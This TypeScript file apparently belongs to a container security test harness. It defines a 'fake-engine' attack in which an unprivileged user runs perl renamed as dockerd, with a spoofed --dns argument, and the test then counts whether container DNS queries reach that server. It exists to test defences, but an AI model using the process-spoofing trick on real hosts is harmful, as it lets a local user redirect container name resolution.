import type { Attack } from './attack.ts'
import type { Scene } from './scene.ts'

const SERVER = '203.0.113.99'
const QUESTIONS = 10
const NOBODY = '65534'

/** The name servers that the engine was started with are those of containers. Any local user can start a program of that name. */
export const FAKE_ENGINE: Attack = {
  name: 'fake-engine',
  seat: 'local user',
  words: `runs a program as \`dockerd --host unix:///run/docker.sock --dns ${SERVER}\`; a container then asks that server`,
  shows: 'a user without rights chose a name server for containers',
  quick: true,
  async play(scene) {
    const { lab } = scene
    const place = await scene.network('asks')
    const attacker = await scene.attacker('asks', place, { name: 'asks' })
    await pretend(scene)
    await scene.guard('allow: [allowed.example]\n')
    const question = `dig +tries=1 +time=1 @${SERVER} any.example >/dev/null`
    // What the host's name servers are is read every five seconds.
    const script = `for i in $(seq ${QUESTIONS}); do ${question}; sleep 0.2; done`
    await attacker.container.exec(['sh', '-c', script], { timeoutMs: 40_000 })
    return { sent: QUESTIONS, arrived: await lab.farEnd.count(SERVER, { proto: 'udp', port: 53 }) }
  },
}

/** The interpreter under another name, and behind its own arguments those of an engine. */
async function pretend({ lab, onEnd }: Scene): Promise<void> {
  await lab.host([
    'sh',
    '-c',
    'mkdir -p /var/tmp/fake && cp "$(readlink -f "$(command -v perl)")" /var/tmp/fake/dockerd',
  ])
  await lab.host(['chmod', '-R', 'a+rx', '/var/tmp/fake'])
  const asNobody = ['setpriv', '--reuid', NOBODY, '--regid', NOBODY, '--clear-groups'] as const
  const service = lab.service('host', [
    ...asNobody,
    '/var/tmp/fake/dockerd',
    '-e',
    'sleep 60',
    '--',
    `--host=unix://${lab.engine.socket}`,
    '--dns',
    SERVER,
    `--dns=${SERVER}`,
  ])
  onEnd(() => service.stop('SIGKILL'))
  await lab.waitFor('the program runs', async () => {
    const { stdout } = await lab.host(['sh', '-c', 'cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "'])
    return stdout.includes(`--dns=${SERVER}`)
  })
}
